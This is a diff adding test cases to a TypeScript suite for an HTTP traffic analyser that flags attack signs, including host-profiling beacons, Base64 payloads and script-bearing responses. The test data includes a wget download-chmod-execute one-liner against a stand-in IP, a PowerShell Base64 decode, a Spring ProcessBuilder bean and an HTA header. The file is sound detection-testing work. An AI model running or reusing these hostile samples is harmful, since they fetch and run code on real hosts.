@@ -110,6 +110,32 @@ describe("files over HTTP", () => {
     expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
   });
 
+  it("of requests say that a host reports itself, or nothing but Base64", async () => {
+    const base64 = "SGVsbG8gV29ybGQhIFRoaXMgaXMgYSB0ZXN0IG9mIEJhc2U2NA";
+    const signs: [string, string | null][] = [
+      ['{"hostname":"PC1","user":"ann","os":"Windows 10"}', "profile"],
+      ["{'Computer_Name' : 'PC1', 'username': 'ann', 'OS-Version': '10'}", "profile"],
+      ["pc=PC1&un=ann&windows=10", "profile"],
+      ['{"hostname":"PC1","user":"ann","note":"my os"}', null],
+      ['{"tags":["hostname","user","os"]}', null],
+      [base64, "sealed"],
+      [`p=${base64}%2B%3D`, "sealed"],
+      [`id=7&data=${base64}&act=1000`, "sealed"],
+      ["p=hellohellohellohellohellohellohellohellohello", null],
+      [`p=${base64}&text=${"many+words.".repeat(12)}`, null],
+      [`text=${"a".repeat(60)}&more=${"b".repeat(60)}&p=${base64}`, null],
+      [`__VIEWSTATE=${base64}`, null],
+      [`SAMLResponse=${base64}`, null],
+      [base64.slice(0, 30), null]
+    ];
+    const said = signs.flatMap(([body], i): Said[] => [
+      [0, `POST /${i} HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}`],
+      [1, "HTTP/1.1 204 No Content\r\n\r\n"]
+    ]);
+    const rows = await overHttp(said);
+    expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
+  });
+
   it("of responses say what they show of an attack, and ordinary ones nothing", async () => {
     const stub = Buffer.concat([
       Buffer.from("4d5a90000300000004000000ffff0000b8000000000000004000000000000000", "hex"),
@@ -141,6 +167,11 @@ describe("files over HTTP", () => {
       ["x".repeat(700), null],
       ["the uid=ann of a directory, and its gid", null],
       ["#!/bin/sh\nset -e\ncurl -fsSL https://pkg.example/key | tee /etc/apt/keyrings/a.asc\n", null],
+      ["cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a", "script"],
+      ["curl is a program. wget too: see http://a.example", null],
+      ["$b = [Convert]::FromBase64String('QUJD')", "script"],
+      ['<bean class="java.lang.ProcessBuilder" init-method="start">', "script"],
+      ["<html><hta:application showintaskbar=no>", "script"],
       ["PK\x03\x04", null]
     ];
     const said = signs.flatMap(([body], i): Said[] => [
